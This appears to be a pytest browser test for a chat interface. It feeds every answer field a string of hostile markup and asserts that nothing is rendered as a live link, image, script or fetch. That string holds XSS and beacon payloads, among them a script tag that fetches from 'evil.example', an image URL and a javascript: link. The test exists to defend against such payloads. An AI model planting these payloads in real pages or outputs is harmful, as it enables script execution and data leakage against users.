"""In a real browser: nothing that a document or a model wrote becomes a link, a picture or a script, or is fetched."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from tests.ui.browsing import ROOT, chromium, wait_until_served
from tests.ui.serving import served

if TYPE_CHECKING:
    from tests.ui.conftest import ScriptedTekio

HOST = "evil.example"
HOSTILE = (
    f"The warranty lasts 24 months [1]. ![x](http://{HOST}/p.png?q=1) [l](http://{HOST}/) "
    f"<img src=http://{HOST}/i.png> <script>fetch('http://{HOST}/s')</script> "
    f"<a href='javascript:fetch(1)'>a</a> http://{HOST}/bare <iframe src='//{HOST}/f'></iframe> "
    f"[[wiki]] :material/home: $x^2$ <http://{HOST}/auto> {HOST}/log?q=1"
)
PAGE = f"""
from typing import ClassVar
from kernel import app
from tests.ui.composed import ensemble_answer, pipeline_answer, policy_answer
from tests.ui.conftest import ScriptedTekio, make_answer

HOSTILE = {HOSTILE!r}
answer = make_answer(text=HOSTILE)
ensemble = ensemble_answer().ensemble
members = [each.model_copy(update={{"answer": HOSTILE, "variant": HOSTILE}}) for each in ensemble.members]
pipeline = pipeline_answer(failed=True).pipeline
steps = [each.model_copy(update={{"name": HOSTILE, "output": HOSTILE, "error": HOSTILE}}) for each in pipeline.steps]
reports = {{
    "ensemble": ensemble.model_copy(
        update={{"members": members, "tie": [HOSTILE], "not_asked": [HOSTILE], "explanation": HOSTILE}}
    ),
    "pipeline": pipeline.model_copy(update={{"steps": steps}}),
    "policy": policy_answer().policy.model_copy(update={{"reason": HOSTILE, "variant": HOSTILE}}),
}}
passage = answer.passages[0].model_copy(update={{"text": HOSTILE, "title": HOSTILE, "document": HOSTILE,
                                                "headings": [HOSTILE], "also_in": [HOSTILE]}})
citation = answer.citations[0].model_copy(update={{"quote": HOSTILE, "title": HOSTILE, "document": HOSTILE}})


class Hostile(ScriptedTekio):
    answer = answer.model_copy(update={{"passages": [passage], "citations": [citation], "reasoning": HOSTILE,
                                       "notices": [HOSTILE], "unsupported": [HOSTILE], **reports}})
    tokens = (HOSTILE[:40], HOSTILE[40:90], HOSTILE[90:])
    error = None
    stuck = False
    has_index = True
    opened = 0
    asked: ClassVar[list] = []
    cancelled = 0
    quoted = HOSTILE


app.Tekio = Hostile
from ui import chat

chat.main()
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as running:
        yield running


@pytest.fixture
def page(browser: Any) -> Iterator[tuple[Any, list[str]]]:
    """A page, and the addresses that it asked for outside of this machine."""
    asked: list[str] = []
    context = browser.new_context()
    opened = context.new_page()
    opened.on("request", lambda request: asked.append(request.url))
    yield opened, asked
    context.close()


@pytest.fixture
def chat_address(tmp_path: Path) -> Iterator[str]:
    """The chat page over a facade whose every text is hostile."""
    script = tmp_path / "page.py"
    script.write_text(PAGE, encoding="utf-8")
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    command = [sys.executable, "-m", "streamlit", "run", str(script), "--server.port", str(port),
               "--server.address", "127.0.0.1", "--server.headless", "true", "--server.fileWatcherType", "none",
               "--browser.gatherUsageStats", "false", "--global.developmentMode", "false"]  # fmt: skip
    environment = {**os.environ, "PYTHONPATH": str(ROOT), "TEKIO_INDEX": str(tmp_path / "index")}
    running = subprocess.Popen(command, cwd=tmp_path, env=environment, stdout=subprocess.DEVNULL)
    try:
        address = f"http://127.0.0.1:{port}"
        wait_until_served(address)
        yield address
    finally:
        running.terminate()
        running.wait(20)


def live_elements(page: Any) -> list[str]:
    """Return the elements of a page that would fetch or open something of the attacker's."""
    found: list[str] = page.evaluate(
        """host => [...document.querySelectorAll('a, img, iframe, script, object, embed, video, audio, form, link')]
            .filter(e => [...e.attributes].some(a => a.value.includes(host) || a.value.startsWith('javascript:'))
                         || (e.tagName === 'SCRIPT' && e.textContent.includes(host)))
            .map(e => e.outerHTML)""",
        HOST,
    )
    return found


def test_the_chat_page_shows_hostile_text_as_text(chat_address: str, page: tuple[Any, list[str]]) -> None:
    opened, asked = page
    opened.goto(chat_address)
    box = opened.get_by_test_id("stChatInputTextArea")
    box.wait_for(timeout=90_000)
    box.fill("How long?")
    box.press("Enter")
    opened.locator(".tk-answer").wait_for(timeout=60_000)
    opened.locator("button.tk-badge").first.click()
    opened.locator(".tk-panel").wait_for(timeout=30_000)
    opened.locator("summary").filter(has_text="How this answer was found").click()
    opened.locator(".tk-member-text").first.wait_for(timeout=30_000)
    for folded in opened.locator("details").all():
        folded.evaluate("element => element.open = true")
    assert f"http://{HOST}/p.png?q=1" in opened.locator(".tk-answer").inner_text()
    assert HOST in opened.locator(".tk-passage").first.inner_text()
    members = opened.locator(".tk-member")
    assert members.count() == 7
    assert all(HOST in text for text in members.all_inner_texts())
    assert live_elements(opened) == []
    assert [address for address in asked if HOST in address] == []


def test_the_api_shows_hostile_text_as_text(
    scripted: type[ScriptedTekio], page: tuple[Any, list[str]]
) -> None:
    opened, asked = page
    with served(scripted) as address:
        opened.goto(f"{address}/v1/documents")
        assert HOST in opened.locator("body").inner_text()
        assert live_elements(opened) == []
        assert [each for each in asked if HOST in each] == []
